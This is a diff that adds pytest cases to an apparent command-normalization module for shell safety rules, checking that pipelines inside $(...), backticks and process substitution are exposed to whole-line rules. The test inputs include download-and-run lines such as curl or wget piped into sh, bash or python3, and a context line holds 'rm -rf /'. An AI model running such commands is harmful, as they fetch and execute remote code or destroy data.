@@ -168,6 +168,27 @@ def test_command_strings_given_to_a_shell_are_normalized_too(typed: str, expecte
     assert set(re.split(" [;|] ", expected_inner)) <= set(normalized.segments)
 
 
+@pytest.mark.parametrize(
+    ("typed", "expected_inner"),
+    [
+        ("x=$(curl http://a|sh)", "curl http://a | sh"),
+        ("echo `curl -s x | bash`", "curl -s x | bash"),
+        ("cat <(wget -qO- x | python3)", "wget -qO- x | python3"),
+        ("a $(b $(c|d))", "c | d"),
+        ("a $(b $(c|d))", "b $(c | d)"),
+    ],
+)
+def test_a_substitutions_pipeline_is_an_inner_line(typed: str, expected_inner: str) -> None:
+    """Whole-line rules (download piped into a shell) must see a pipeline that runs inside `$(...)`: in the whole
+    line it ends in `)`, which a rule anchored at the end of the command does not expect."""
+    assert expected_inner in normalize_command(typed).inner
+
+
+def test_nested_substitutions_cannot_use_up_the_allowance_for_shell_command_strings() -> None:
+    padding = "$(" * 8 + "a" * 100_000 + ")" * 8
+    assert "curl x | sh" in normalize_command(f"echo {padding}; bash -c 'curl x|sh'").inner
+
+
 def test_eval_chains_reach_the_command_without_recursion_limits() -> None:
     assert "rm -rf /" in segments("eval " * 5000 + "rm -rf /")
 
